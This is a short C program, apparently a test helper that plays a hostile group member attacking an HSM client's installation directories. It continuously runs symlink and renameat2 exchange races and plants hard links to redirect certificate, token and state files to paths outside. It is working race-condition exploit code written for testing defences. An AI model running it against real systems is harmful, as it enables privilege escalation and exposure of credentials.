/*
 * A hostile user in the HSM group: attacker CLIENT OUTSIDE.  Without pause, as 54321:986, in the directories that are the
 * group's to write: exchanges a directory of the identity, and a file of it, with links that lead outside, and plants
 * second names of a file outside.  Opens by path each time, since the client is another one after each installation.
 * Runs until it is killed; dies with its parent.
 */
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { EXCHANGE = 2 };

static void exchange(int dir, const char *name, const char *link, const char *target)
{
	(void)symlinkat(target, dir, link);
	(void)syscall(SYS_renameat2, dir, name, dir, link, EXCHANGE);
	(void)syscall(SYS_renameat2, dir, name, dir, link, EXCHANGE);
}

int main(int argc, char **argv)
{
	char secret[4096];
	const gid_t group = 986;

	if (argc != 3 || setgroups(1, &group) < 0 || setgid(group) < 0 || setuid(54321) < 0)
		return 5;
	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	(void)snprintf(secret, sizeof(secret), "%s/secret", argv[2]);
	for (;;) {
		const int client = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
		const int cert = openat(client, "cert", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		const int data = openat(client, "data", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		const int token = openat(client, "configData/token/001", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

		for (int i = 0; i < 50; i++) {
			exchange(cert, "client", "client.link", argv[2]);
			exchange(cert, "server", "server.link", argv[2]);
			exchange(token, "token.db", "token.link", secret);
			exchange(data, "state", "state.link", secret);
			(void)mkdirat(data, "deep", 0770);
			(void)linkat(AT_FDCWD, secret, data, "deep/planted", 0);
			exchange(data, "deep", "deep.link", argv[2]);
			(void)unlinkat(data, "deep/planted", 0);
		}
		(void)close(token);
		(void)close(data);
		(void)close(cert);
		(void)close(client);
	}
}
